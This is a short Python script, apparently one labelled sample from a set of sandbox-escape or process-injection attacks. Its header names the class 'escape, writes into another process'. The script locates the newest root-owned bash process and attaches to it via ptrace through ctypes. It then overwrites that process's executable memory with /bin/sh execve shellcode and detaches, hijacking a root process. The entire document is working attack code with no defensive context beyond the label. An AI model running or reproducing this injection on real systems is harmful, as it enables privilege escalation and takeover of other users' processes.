# class: escape, writes into another process; style: ctypes
import ctypes, subprocess
libc = ctypes.CDLL("libc.so.6", use_errno=True)
pid = int(subprocess.check_output(["pgrep", "-n", "-u", "root", "bash"]))
libc.ptrace(16, pid, 0, 0)
libc.waitpid(pid, None, 0)
sc = b"\x48\x31\xf6\x56\x48\xbf/bin//sh\x57\x54\x5f\x6a\x3b\x58\x99\x0f\x05"
maps = next(l for l in open(f"/proc/{pid}/maps") if "r-xp" in l)
addr = int(maps.split("-")[0], 16)
for i in range(0, len(sc), 8):
    libc.ptrace(4, pid, ctypes.c_void_p(addr + i), ctypes.c_long(int.from_bytes(sc[i:i + 8].ljust(8, b"\x90"), "little", signed=True)))
libc.ptrace(17, pid, 0, 0)
